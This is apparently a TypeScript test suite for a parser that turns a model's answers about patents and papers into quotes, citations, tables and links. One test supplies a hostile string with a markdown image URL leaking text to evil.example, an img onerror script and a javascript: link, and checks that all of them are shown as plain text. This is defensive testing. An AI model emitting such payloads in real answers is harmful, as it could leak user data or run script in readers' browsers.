import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  answerBlocks,
  type Block,
  type Piece,
  type Place,
  placeAddress,
  rowPage,
  type Source,
  sourcesOf,
  writtenBy,
} from './answer.ts';

const place = (text: string, more: Partial<Place> = {}): Place => ({
  part: 'description',
  lang: 'en',
  origin: 'original',
  paragraph_id: 'p7',
  start: 10,
  end: 10 + text.length,
  text,
  ...more,
});
const source = (number: number, quotes: readonly Place[]): Source => ({
  mark: String(number),
  address: `/patents/US${number}00B2`,
  name: `US${number}00B2`,
  title: `Title ${number}`,
  stored: true,
  quotes,
});
const said = (block: Block | undefined) =>
  block === undefined || block.kind === 'search' || block.kind === 'table'
    ? ''
    : block.sentences.flatMap(({ pieces }) => pieces.map(plain)).join('');
const plain = (piece: Piece) =>
  piece.kind === 'cite' ? `[${piece.mark}]` : piece.kind === 'quote' ? `“${piece.text}” [${piece.mark}]` : piece.text;
const sentencesOf = (block: Block) => (block.kind === 'search' || block.kind === 'table' ? [] : block.sentences);

describe('an answer', () => {
  it('has quotes where the sources have the words, and no list of sources', () => {
    const ring = place('The ring, called “gasket”,\n  has 4 mm.');
    const blocks = answerBlocks(
      'One document says, word for word:\n\n- “The ring, called “gasket”, has 4 mm.” [1] “Made up.” [1]\n\nSources:\n[1] US100B2: Title 1 (ACME, 2020-01-02), paragraph 7\n',
      [source(1, [ring])],
    );
    expect(blocks.map(({ kind }) => kind)).toEqual(['paragraph', 'item']);
    expect(sentencesOf(blocks[1]!).flatMap(({ pieces }) => pieces)).toContainEqual({
      kind: 'quote',
      text: 'The ring, called “gasket”, has 4 mm.',
      mark: '1',
      place: ring,
    });
    expect(said(blocks[1])).toContain('“Made up.” [1]');
    expect(writtenBy(blocks)).toBe('model'); // “Made up.” is cited and is not in the source
  });

  it('of quotations alone is known as such, and one of a model too', () => {
    const quoted = answerBlocks('Says:\n- “A.” [1]\n', [source(1, [place('A.')])]);
    expect(writtenBy(quoted)).toBe('documents');
    expect(writtenBy(answerBlocks('The ring seals [1].', [source(1, [place('A.')])]))).toBe('model');
    expect(writtenBy(answerBlocks('4 publications.\nCounted: TTL: lidar', []))).toBeUndefined();
    expect(answerBlocks('By year:\n\n| Year | Families |\n|---|---|\n| 2001 | 3 |\n| A \\| B | 14 |\n', [])).toEqual([
      { kind: 'paragraph', sentences: [{ pieces: [{ kind: 'text', text: 'By year:' }] }] },
      {
        kind: 'table',
        head: [[{ kind: 'text', text: 'Year' }], [{ kind: 'text', text: 'Families' }]],
        rows: [
          [[{ kind: 'text', text: '2001' }], [{ kind: 'text', text: '3' }]],
          [[{ kind: 'text', text: 'A | B' }], [{ kind: 'text', text: '14' }]],
        ],
      },
    ]);
  });

  it('calls inference what names no source among sentences that do', () => {
    const [block] = answerBlocks(
      'The ring seals up to 3.5 bar [1]. It would thus suit ships. Seals, e.g. of graphite, are known. [2] 它密封。[1]因此适合。',
      [source(1, []), source(2, [])],
    );
    expect(sentencesOf(block!).map(({ inference }) => inference ?? false)).toEqual([false, true, false, false, true]);
  });

  it('calls nothing of the service’s own words inference', () => {
    const blocks = answerBlocks(
      '8 patent families have all key words. 2 documents say:\n(1 sentence was left out.)',
      [],
    );
    expect(blocks.map(({ kind }) => kind)).toEqual(['paragraph', 'remark']);
    expect(blocks.flatMap((block) => sentencesOf(block).filter(({ inference }) => inference))).toEqual([]);
  });

  it('keeps a list of documents that is the answer', () => {
    const blocks = answerBlocks(
      '2 patent families.\nCounted: TTL: ring\n\nNewest publication first:\n[1] US100B2: A ring. With a seal (ACME, 2020-01-02)\n[2] US200B2: B\n',
      [source(1, []), source(2, [])],
    );
    expect(blocks.map(({ kind }) => kind)).toEqual(['paragraph', 'search', 'paragraph', 'listed', 'listed']);
    expect(said(blocks[3])).toBe('[1] US100B2: A ring. With a seal (ACME, 2020-01-02)');
    expect(blocks.flatMap(sentencesOf).some(({ inference }) => inference)).toBe(false);
    expect(writtenBy(blocks)).toBeUndefined();
  });

  it('links the expression that was counted', () => {
    expect(answerBlocks('4 publications.\nCounted: TAC_ALL: lidar\n', [])[1]).toEqual({
      kind: 'search',
      label: 'Counted',
      expression: 'TAC_ALL: lidar',
    });
  });

  it('takes a number for a source only where there is one', () => {
    expect(answerBlocks('See [9].', [source(1, [])])).toEqual([
      {
        kind: 'paragraph',
        sentences: [
          {
            pieces: [
              { kind: 'text', text: 'See ' },
              { kind: 'text', text: '[9]' },
              { kind: 'text', text: '.' },
            ],
          },
        ],
      },
    ]);
  });

  it('loses no character of a line, whatever it holds', () => {
    const words = fc
      .array(fc.constantFrom('a', 'B', ' ', '.', '“', '”', '[1]', '[2]', '。', '3.5', '(x'))
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(words, (line) => {
        const trimmed = `x${line}`.trim();
        const shown = said(answerBlocks(trimmed, [source(1, [place('a')])])[0]);
        expect(shown.replaceAll(' ', '')).toBe(trimmed.replaceAll(' ', ''));
      }),
    );
  });
});

it('quotes papers beside patents, and leaves out both lists of sources', () => {
  const words = { unit: 'abstract:en', part: 'abstract', lang: 'en', origin: 'original', start: 3, end: 9 } as const;
  const sources = sourcesOf({
    sources: [],
    papers: [
      {
        ...{ number: 1, id: '548ec53a', title: 'On gout', authors: ['Ann A', 'Bo B'], venue: 'Joints', doi: '10.1/x' },
        ...{ stored: true, published: 20200100, quotes: [{ ...words, text: 'Gout hurts.' }] },
      },
      { number: 2, id: 'f00', title: 'Gone', authors: [], stored: false, quotes: [] },
    ],
  });
  expect(sources).toMatchObject([
    { mark: 'P1', address: '/papers/548ec53a', name: '10.1/x', by: 'Ann A, Bo B, Joints', published: 20200100 },
    { mark: 'P2', name: '' },
  ]);
  const blocks = answerBlocks(
    'It says:\n- “The ring seals.” [1]\n\nSources:\n[1] US100B2: Title 1, claim 1\n\nPapers say, word for word:\n- “Gout hurts.” [P1] See [P2] and [P3].\n\n[P1] On gout (Ann A), abstract; abstract only\n[P2] Gone, p1\n',
    [source(1, [place('The ring seals.')]), ...sources],
  );
  expect(blocks.map(({ kind }) => kind)).toEqual(['paragraph', 'item', 'paragraph', 'item']);
  expect(sentencesOf(blocks[3]!).flatMap(({ pieces }) => pieces)).toEqual([
    { kind: 'quote', text: 'Gout hurts.', mark: 'P1', place: { ...words, text: 'Gout hurts.' } },
    { kind: 'text', text: ' See ' },
    { kind: 'cite', mark: 'P2' },
    { kind: 'text', text: ' and ' },
    { kind: 'text', text: '[P3]' },
    { kind: 'text', text: '.' },
  ]);
  expect(placeAddress(sources[0]!, sources[0]!.quotes[0]!)).toBe('/papers/548ec53a#abstract:en:3-9');
});

it('leads to the words in the text they were counted in', () => {
  expect(placeAddress({ address: '/patents/EP1A1' }, place('abc'))).toBe('/patents/EP1A1?text=en-original#p7:10-13');
  const claim: Place = { part: 'claim', lang: 'zh', origin: 'machine', claim_number: 2, start: 0, end: 3, text: 'abc' };
  expect(placeAddress({ address: '/patents/EP1A1' }, claim)).toBe('/patents/EP1A1?text=zh-machine#c2:0-3');
});

it('of a model shows its links, pictures and HTML as the text that they are', () => {
  const hostile =
    'The ring seals ![x](http://evil.example/?q=idea) [1]. <img src=http://evil.example/ onerror=alert(1)> [click](javascript:alert(1))';
  const blocks = answerBlocks(hostile, [source(1, [place('A.')])]);
  const pieces = blocks.flatMap(sentencesOf).flatMap((sentence) => sentence.pieces);
  expect(new Set(pieces.map(({ kind }) => kind))).toEqual(new Set(['text', 'cite']));
  expect(pieces.map(plain).join('')).toBe(hostile);
});

it('a row of a register leads to the page of what it is about', () => {
  const id = '6a6f2135a5eed35bf341636d03943406';
  expect([
    rowPage(`/synapse/drug/approval?drug_id=${id}`),
    rowPage(`/synapse/drug/dev-status?drug_id=${id}`),
    rowPage(`/synapse/clinical-trial/detail?clinical_trial_id=${id}`),
    rowPage(`/synapse/target/detail?target_id=${id}`),
    rowPage('/synapse/patent/detail?patent_id=d2dbde75-6a54-52a9-96f6-af125cabab59'),
  ]).toEqual([`/drugs/${id}`, `/drugs/${id}`, `/trials/${id}`, `/targets/${id}`, undefined]);
});
